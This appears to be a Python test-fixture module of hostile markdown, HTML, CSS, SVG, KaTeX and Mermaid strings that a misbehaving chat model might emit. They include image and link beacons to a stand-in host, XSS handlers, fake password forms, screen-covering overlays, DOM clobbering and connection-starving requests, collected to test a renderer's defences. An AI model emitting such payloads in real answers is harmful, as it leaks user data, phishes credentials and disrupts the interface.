"""What a hostile model may say. EVIL stands for another origin.

Most of these do something in a page that renders them without care: see the tests that use them.
"""

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="

CALLS_OUT = [
    # Markdown
    "![x](EVIL/md?secret)",
    "![x](<EVIL/angle> 'x')",
    "[![x](EVIL/md)](EVIL/link)",
    "![x][1]\n\n[1]: EVIL/reference",
    # Pictures
    "<img src=EVIL/img>",
    "<img src=//HOST/no-scheme>",
    "<img src='http:\\\\HOST\\backslash'>",
    "<img srcset='EVIL/srcset 1x'>",
    "<img src=x onerror=\"fetch('EVIL/onerror');window.xss=1\">",
    "<img loading=eager fetchpriority=high crossorigin src=EVIL/crossorigin>",
    "<img dynsrc=EVIL/dynsrc lowsrc=EVIL/lowsrc longdesc=EVIL/longdesc>",
    "<image src=EVIL/image>",
    "<input type=image src=EVIL/input>",
    "<picture><source srcset=EVIL/source><img src=x></picture>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='EVIL/in'/>"
    '<script>window.xss=1</script></svg>">',
    # Styles
    "<div style=\"background:url('EVIL/background')\">x</div>",
    '<div style="list-style-image:url(EVIL/list);display:list-item">x</div>',
    '<p style="border-image-source:url(EVIL/border)">x</p>',
    '<p style="content:url(EVIL/content)">x</p>',
    '<p style="cursor:url(EVIL/cursor),auto">x</p>',
    '<p style="background:image-set(url(EVIL/image-set) 1x)">x</p>',
    '<p style="mask-image:url(EVIL/mask);-webkit-mask:url(EVIL/webkit-mask)">x</p>',
    '<p style="float:left;shape-outside:url(EVIL/shape)">x</p>',
    '<p style="--u:url(EVIL/variable);background-image:var(--u)">x</p>',
    '<p style="filter:url(EVIL/filter#f);clip-path:url(EVIL/clip#c)">x</p>',
    "<style>@import url(EVIL/import); body{background:url(EVIL/style)}</style>",
    "<style>@font-face{font-family:f;src:url(EVIL/font)} *{font-family:f}</style>",
    "<style>input[value^=a]{background:url(EVIL/attribute)}</style>",
    # Media
    "<video src=EVIL/video autoplay></video>",
    "<video poster=EVIL/poster></video>",
    "<audio src=EVIL/audio autoplay></audio>",
    "<audio><source src=EVIL/audio-source></audio>",
    "<video><track src=EVIL/track default></video>",
    "<bgsound src=EVIL/bgsound>",
    # SVG and formulas
    "<svg><image href=EVIL/svg-image /></svg>",
    "<svg><image xlink:href=EVIL/svg-xlink /></svg>",
    "<svg><use href=EVIL/svg-use#x /></svg>",
    "<svg><feImage href=EVIL/fe-image /></svg>",
    "<svg><rect width=9 height=9 fill='url(EVIL/fill#x)' filter='url(EVIL/svg-filter#f)' /></svg>",
    "<svg><animate attributeName=href values=EVIL/animate /></svg>",
    "<svg onload=\"window.xss=1;fetch('EVIL/svg-onload')\"></svg>",
    "<svg><foreignObject><img src=EVIL/foreign></foreignObject></svg>",
    "<svg><style>@import 'EVIL/svg-style';</style></svg>",
    '<math href="javascript:window.xss=1">x</math>',
    "<math><mtext><table><mglyph><style><img src=EVIL/mglyph onerror=window.xss=1>"
    "</style></mglyph></table></mtext></math>",
    "$\\includegraphics{EVIL/katex}$ $\\href{javascript:window.xss=1}{x}$",
    "$$\\htmlStyle{background:url(EVIL/html-style)}{x}$$",
    "$$\\includegraphics[height=9em]{EVIL/katex-block}$$",
    '```mermaid\ngraph TD; A["<img src=EVIL/mermaid>"]\n```',
    '```mermaid\n%%{init: {"themeCSS": "@import url(EVIL/theme); *{background:url(EVIL/css)}"}}%%\n'
    "graph TD; A-->B\n```",
    # Other documents
    "<link rel=stylesheet href=EVIL/css>",
    "<link rel=prefetch href=EVIL/prefetch>",
    "<link rel=preload as=image href=EVIL/preload>",
    "<link rel=modulepreload href=EVIL/module>",
    "<link rel=preconnect href=EVIL/preconnect>",
    "<link rel=dns-prefetch href=EVIL/dns>",
    "<link rel=icon href=EVIL/icon>",
    "<link rel=manifest href=EVIL/manifest>",
    "<iframe src=EVIL/iframe></iframe>",
    "<iframe srcdoc='<img src=EVIL/srcdoc>'></iframe>",
    "<iframe src='javascript:window.xss=1'></iframe>",
    "<frameset><frame src=EVIL/frame></frameset>",
    "<object data=EVIL/object></object>",
    "<embed src=EVIL/embed>",
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'>",
    "<meta http-equiv=Content-Security-Policy content='img-src *'><img src=EVIL/policy>",
    "<base href=EVIL/base/>\n\n![x](relative)",
    # Scripts
    "<script src=EVIL/script></script>",
    "<script type=module>import 'EVIL/import-script'</script>",
    "<script>window.xss=1;fetch('EVIL/inline')</script>",
    "<script>new WebSocket('EVIL/socket'.replace('http', 'ws'))</script>",
    '<script type=speculationrules>{"prefetch": [{"urls": ["EVIL/speculation"]}]}</script>',
    '<details open ontoggle="window.xss=1">x</details>',
    "<input autofocus onfocus=\"window.xss=1;fetch('EVIL/focus')\">",
    "<p style='animation:spin 1s' onanimationstart=window.xss=1>x</p>",
    "<p tabindex=1 autofocus contenteditable onfocus=window.xss=1>x</p>",
    # Old and odd
    "<body background=EVIL/body>",
    "<table background=EVIL/table><tr><td background=EVIL/cell>x</table>",
    "<template><img src=EVIL/template></template>",
    "<div><template shadowrootmode=open><img src=EVIL/shadow></template></div>",
    "<noscript><img src=EVIL/noscript></noscript>",
    "<!--><img src=EVIL/comment>-->",
    "<a href=EVIL/ping ping=EVIL/ping>x</a>",
    # What the host would pay for
    "<img src=/chat/stream?query=paid-by-the-host>",
    "<img crossorigin src=/chat/stream?query=paid-by-the-host>",
    "<video autoplay crossorigin src=/chat/stream?query=paid-by-the-host></video>",
    "<audio autoplay crossorigin src=/chat/stream?query=paid-by-the-host></audio>",
]

RED = "background:red;z-index:2147483647"

COVERS = [
    f"<div style='position:fixed;inset:0;{RED}'>Session expired</div>",
    f"<div style='position:absolute;inset:-2000px;width:9000px;height:9000px;{RED}'>x</div>",
    f"<div style='position:sticky;top:-500px;bottom:-500px;height:3000px;{RED}'>x</div>",
    f"<div style='float:left;margin:-3000px;width:9000px;height:9000px;{RED}'>x</div>",
    f"<p style='margin:-3000px;padding:3000px;position:relative;{RED}'>x</p>",
    "<div class='fixed inset-0 z-50 bg-red-500'>x</div>",
    "<div class='toast-wrap'><div class='toast-body error'>Session expired</div></div>",
    "<div style='width:1000000px;height:1000000px;background:red'>x</div>",
    "<p style='transform:scale(500);background:red'>x</p>",
    "<p style='translate:0 -300px;scale:9;rotate:45deg;background:red'>x</p>",
    "<p style='box-shadow:0 0 0 5000px red'>x</p>",
    "<p style='outline:5000px solid red'>x</p>",
    "<p style='filter:drop-shadow(0 -300px 99px red);backdrop-filter:invert(1)'>x</p>",
    "<font size=99 style='font-size:3000px;line-height:9'>x</font><marquee>y</marquee>",
    f"<img width=99999 height=99999 src={PIXEL}>",
    "<dialog open style='position:fixed;inset:0;width:100%;height:100%'>x</dialog>",
    "<div popover style='display:block;position:fixed;inset:0'>x</div>",
    "<svg style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>"
    "<rect width=9999 height=9999 fill=red /></svg>",
    "<svg overflow=visible><rect x=-5000 y=-5000 width=9999 height=9999 fill=red /></svg>",
    "$$\\rule{9999em}{9999em}$$",
    "$$\\kern{-900em}\\raisebox{-900em}{\\rule{9999em}{9999em}}$$",
    "$\\kern{-900em}\\raisebox{-900em}{\\rule{999em}{999em}}$ 5$&ic;\\rule{999em}{999em}&ic;$",
    '```mermaid\n%%{init: {"themeCSS": ":not(&) h1, body:has(&) h1 {display:none}"}}%%\n'
    "graph TD; A-->B\n```",
    '```mermaid\n%%{init: {"themeCSS": "} h1, textarea {display:none} a {"}}%%\n'
    "graph TD; A-->B\n```",
    "<style>h1, textarea {display:none !important}</style>",
    "W" * 20_000,
    "# " + "W" * 20_000,
    "```\n" + "x" * 20_000 + "\n```",
    "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n|" + "b|" * 300,
    ">" * 300 + " x",
    "\n".join("  " * depth + "- x" for depth in range(100)),
    "z" + "\u0336\u0489\u030d" * 3000,
    "\u202e\u2066evil\u202d" * 200,
]

# What reaches the page from within an answer: its document, its buttons, its keys, its look.
REACHES = [
    "<img name=createTextNode src=x>",
    "<form name=querySelector></form><img name=body src=x>",
    "<img name=createElement id=addEventListener src=x>",
    "<object id=getElementById></object><embed name=head>",
    "<a class='toggle-button' href=EVIL/toggle>x</a>",
    "<div class='sidebar open'><a class='toggle-button' href=EVIL/side>x</a></div>",
    "<div id=side-bar class=open><button class=toggle-button>x</button></div>",
    "<div id=message><textarea>x</textarea></div><div id=conversation>x</div>",
    "<a href=EVIL/focus autofocus>x</a>",
    "<a href=EVIL/tab tabindex=1 accesskey=s>x</a>",
    "<p contenteditable autofocus>Type your password here</p>",
    "<audio src=files/x.wav autoplay controls></audio>",
    "<div class='thought-group'><div class='title'><strong>Note</strong></div>Pay first.</div>",
    "<p dir=rtl lang=x title=y hidden inert popover draggable=true>x</p>",
    '```mermaid\ngraph TD; A["<img name=createTextNode src=x>"]-->B\n```',
    '```mermaid\ngraph TD; A["&lt;img name=createTextNode src=x&gt;"]-->B\n```',
    "```\n```~\n<img name=createTextNode src=x>\n```\n```",
    "$$\n```\n$$\n<img name=createTextNode src=x>\n```",
    '[a]: http://x "\n```\n"\n<img name=createTextNode src=x>',
]

ASKS = [
    "<form action=EVIL/form><input type=password name=p><button>Log in</button></form>",
    "<form action=EVIL/form method=post>Key: <input name=key autofocus></form>",
    "<svg><foreignObject><form action=EVIL/f><input type=password></form></foreignObject></svg>",
    "<input type=password placeholder='Your password'>",
    "<textarea>Paste your key here</textarea>",
    "<select><option>Pay</select>",
    "<button popovertarget=p>Press</button><div popover id=p><input></div>",
    "<button formaction=EVIL/formaction form=f>Log in</button><form id=f></form>",
    "<input type=file><input type=color><input type=range>",
]

# Each is said eight times: a browser makes six connections to one server, and no more.
STARVES = [
    "<video autoplay src=/gradio_api/heartbeat/NUMBER></video>",
    "<audio autoplay src=/gradio_api/heartbeat/NUMBER></audio>",
    "<p style='filter:url(/gradio_api/heartbeat/NUMBER#x)'>x</p>",
]

LINK = "[Read this](EVIL/read)"
LINK_IN_DIAGRAM = '```mermaid\ngraph TD; A[Read this]\nclick A href "EVIL/read" _self\n```'

NO_LINKS = [
    "<a href=EVIL/read target=_self>Read this</a>",
    "<a href=EVIL/read target=evil rel=opener>Read this</a>",
    "<a href=EVIL/read ping=EVIL/ping referrerpolicy=unsafe-url>Read this</a>",
    "<svg height=40><a href=EVIL/read><text y=20>Read this</text></a></svg>",
    f"Read this<img usemap=#m width=99 height=99 src={PIXEL}>"
    "<map name=m><area shape=rect coords=0,0,999,999 href=EVIL/read target=_self></map>",
    "[Read this](javascript:window.xss=1)",
    "[Read this](data:text/html,<script>opener.xss=1</script>)",
    "[Read this](vbscript:window.xss=1)",
    "[Read this](file:///etc/passwd)",
    "<a href='java\tscript:window.xss=1'>Read this</a>",
    "<a href='&#106;avascript:window.xss=1'>Read this</a>",
    "<a href=x onclick=window.xss=1;return(false)>Read this</a>",
    "<label for=component-0>Read this</label>",
    "<button class=submit-button onclick=window.xss=1>Read this</button>",
    "<svg height=40><a href=javascript:window.xss=1><text y=20>Read this</text></a></svg>",
]
